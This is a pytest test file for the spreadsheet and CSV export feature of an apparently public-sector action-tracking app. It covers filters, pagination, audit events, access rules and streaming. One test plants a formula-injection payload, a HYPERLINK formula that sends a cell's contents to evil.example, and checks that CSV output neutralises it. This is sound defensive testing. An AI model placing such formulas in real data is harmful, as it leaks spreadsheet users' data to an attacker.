"""Every filtered list downloads as .xlsx and .csv: the list on screen, whole, with its filters."""

from __future__ import annotations

import csv
import io
import re
from itertools import islice
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.factories import ActionFactory, UserFactory
from tests.plans.conftest import Plans, bulk_actions, events, text
from tracker.db import db
from tracker.models import User
from tracker.rules.lifecycle import ActionStatus
from tracker.rules.vocabulary import Role
from tracker.services.exports.writers import Column, csv_chunks, csv_safe, xlsx_chunks

HEADINGS = ["RAG", "Review", "Recommendation", "Action", "Lead agency", "Owner", "Status", "Target date"]


def workbook_rows(response: Any) -> list[list[Any]]:
    assert response.status_code == 200, response.status_code
    assert "spreadsheetml" in response.content_type
    assert response.headers["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response.content_type.startswith("text/csv")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def table_of(rows: list[list[Any]]) -> tuple[dict[str, Any], list[str], list[list[Any]]]:
    """The preamble (label -> value), the headings and the data rows of an export."""
    blank = next(i for i, row in enumerate(rows) if not any(v not in (None, "") for v in row))
    preamble = {row[0]: row[1] if len(row) > 1 else None for row in rows[1:blank]}
    return preamble, [h for h in rows[blank + 1] if h], rows[blank + 2 :]


def test_the_action_search_downloads_as_on_screen(client_for: Any, plans: Plans) -> None:
    browser = client_for("subgroup")
    page = text(browser.get("/actions?rag=red&rag=amber&sort=target_date"))
    assert "Excel (.xlsx)" in page and "CSV" in page
    preamble, headings, data = table_of(workbook_rows(browser.get("/actions/export.xlsx?rag=red&rag=amber")))
    assert headings[: len(HEADINGS)] == HEADINGS
    assert preamble["Filters"] == "RAG: Red; RAG: Amber"
    assert preamble["Actions"] == 2 and preamble["Marking"] == "OFFICIAL-SENSITIVE"
    # In the page's order (RAG, red first), with the page's words.
    assert [row[3] for row in data] == [plans.police_red.description, plans.health_amber.description]
    assert [row[0] for row in data] == ["Red", "Amber"]
    assert data[0][1:3] == ["DHR-2021-03", "1"] and data[0][4] == "Northshire Police" and data[0][6] == "In progress"
    assert data[0][7].date() == plans.police_red.target_date
    _, csv_headings, csv_data = table_of(csv_rows(browser.get("/actions/export.csv?rag=red&rag=amber")))
    assert csv_headings == headings
    assert [row[3] for row in csv_data] == [row[3] for row in data]
    assert csv_data[0][7] == plans.police_red.target_date.strftime("%d/%m/%Y")


def test_every_page_of_a_long_list_is_in_the_export(client_for: Any, plans: Plans) -> None:
    bulk_actions(plans.rec2, plans.police, 120)
    browser = client_for("board")
    assert "Showing 1 to 50 of 123 actions" in text(browser.get("/actions?include_closed=0"))
    _, _, data = table_of(workbook_rows(browser.get("/actions/export.xlsx?include_closed=0&page=2")))
    assert len(data) == 123


def test_each_export_is_in_the_audit_trail(client_for: Any, users: dict[str, User], plans: Plans) -> None:
    client_for("board").get(f"/actions/export.csv?review={plans.shared.id}").get_data()
    [event] = events("export.actions")
    assert event.actor_id == users["board"].id
    assert event.after == {"filters": {"review": [plans.shared.id]}, "format": "csv", "rows": 3}


def test_an_agency_lead_takes_away_their_own_agencys_actions_only(client_for: Any, plans: Plans) -> None:
    lead = client_for("agency_lead")
    assert lead.get("/actions/export.xlsx").status_code == 403
    page = text(lead.get("/agency-actions"))
    assert "Northshire Police: actions" in page and plans.police_red.description in page
    assert plans.health_amber.description not in page
    _, _, data = table_of(workbook_rows(lead.get("/agency-actions/export.xlsx")))
    assert {row[3] for row in data} == {plans.police_red.description, plans.police_green.description}
    assert {row[4] for row in data} == {"Northshire Police"}
    _, _, csv_data = table_of(csv_rows(lead.get("/agency-actions/export.csv?rag=red")))
    assert [row[3] for row in csv_data] == [plans.police_red.description]


def test_reviews_and_recommendations_download_with_their_filters(client_for: Any, plans: Plans) -> None:
    browser = client_for("subgroup")
    preamble, headings, data = table_of(workbook_rows(browser.get("/reviews/export.xlsx?type=SAR")))
    assert headings[:3] == ["Reference", "Title", "Type"]
    assert preamble["Filters"] == "Safeguarding Adults Review"
    assert [row[0] for row in data] == ["SAR-2022-01"]
    preamble, headings, data = table_of(
        workbook_rows(browser.get("/recommendations/export.xlsx?implementation=in_progress"))
    )
    assert headings[:3] == ["Review", "Number", "Recommendation"]
    assert preamble["Filters"] == "Implementation: In progress"
    assert {(row[0], row[1]) for row in data} == {("DHR-2021-03", "1"), ("DHR-2021-03", "2")}
    assert {row[6] for row in data} == {"In progress"}
    _, _, csv_data = table_of(csv_rows(browser.get("/recommendations/export.csv")))
    assert len(csv_data) == 3


@pytest.mark.parametrize("path", ["/actions/export.csv", "/agency-actions/export.csv", "/my-actions/export.csv"])
def test_no_user_text_is_ever_a_formula(client_for: Any, users: dict[str, User], path: str) -> None:
    lead = users["agency_lead"]
    ActionFactory(
        lead_agency=lead.agency,
        description='=HYPERLINK("https://evil.example/?"&A1,"Audit")',
        owner="+44 1632 960000",
        owner_user=lead if "my-actions" in path else None,
    )
    role = "agency_lead" if "agency" in path or "my-" in path else "subgroup"
    _, _, data = table_of(csv_rows(client_for(role).get(path)))
    assert data and all(not v.startswith(("=", "+", "-", "@")) for row in data for v in row)
    assert any(v == '\'=HYPERLINK("https://evil.example/?"&A1,"Audit")' for row in data for v in row)
    rows = workbook_rows(client_for(role).get(path.replace(".csv", ".xlsx")))
    assert any(v == '=HYPERLINK("https://evil.example/?"&A1,"Audit")' for row in rows for v in row)


def test_my_actions_are_those_i_own(client: Any, users: dict[str, User], plans: Plans) -> None:
    lead = users["agency_lead"]
    plans.police_red.owner_user = lead
    plans.police_red.owner = lead.name
    db.session.flush()
    browser = client.sign_in_as(lead)
    assert 'href="/my-actions"' in browser.get("/").get_data(as_text=True)
    page = text(browser.get("/my-actions"))
    assert plans.police_red.description in page and plans.police_green.description not in page
    preamble, _, data = table_of(workbook_rows(browser.get("/my-actions/export.xlsx")))
    assert preamble["Filters"].startswith(f"Owned by {lead.name}")
    assert [row[3] for row in data] == [plans.police_red.description]
    # Someone who owns nothing is told so.
    nobody = UserFactory(role=Role.BOARD)
    assert "No actions match." in text(client.sign_in_as(nobody).get("/my-actions"))


def test_csv_cells_that_excel_would_run_are_prefixed() -> None:
    for value in ("=1+1", "+44", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(value) == "'" + value
    assert csv_safe("Plain text") == "Plain text" and csv_safe(-2) == "-2"


def test_the_writers_stream_rather_than_hold_the_list() -> None:
    """The first pieces leave before the rows run out: a list of any length is never held whole."""
    pulled = 0

    def endless() -> Any:
        nonlocal pulled
        while True:
            pulled += 1
            yield [pulled, f"A description long enough to fill the pieces quickly, row {pulled}", "=1+1"]

    columns = [Column("N"), Column("Text"), Column("Formula")]
    for chunks in (
        xlsx_chunks(sheet="Actions", preamble=[["Title"]], columns=columns, rows=endless(), title="t"),
        csv_chunks(preamble=[["Title"]], columns=columns, rows=endless()),
    ):
        pulled = 0
        pieces = list(islice(chunks, 4))
        assert len(pieces) == 4 and all(len(p) < 256 * 1024 for p in pieces)
        assert pulled < 20_000  # a few pieces' worth of rows, not the whole endless list


def test_a_large_workbook_opens_and_keeps_every_row() -> None:
    rows = ([n, f"Action {n}", "closed" if n % 2 else "open"] for n in range(20_000))
    data = b"".join(
        xlsx_chunks(
            sheet="Actions",
            preamble=[["Title"], ["Filters", "None"]],
            columns=[Column("N"), Column("Action"), Column("Status")],
            rows=rows,
            title="Actions",
        )
    )
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[3] == ("N", "Action", "Status") and values[-1] == (19_999, "Action 19999", "closed")
    assert len(values) == 4 + 20_000


def test_the_lists_say_which_downloads_they_offer(client_for: Any, plans: Plans) -> None:
    html = client_for("subgroup").get("/actions?rag=red").get_data(as_text=True)
    assert re.search(r'href="/actions/export\.xlsx\?rag=red"', html)
    assert re.search(r'href="/actions/export\.csv\?rag=red"', html)
    assert ActionStatus.ASSURED.label
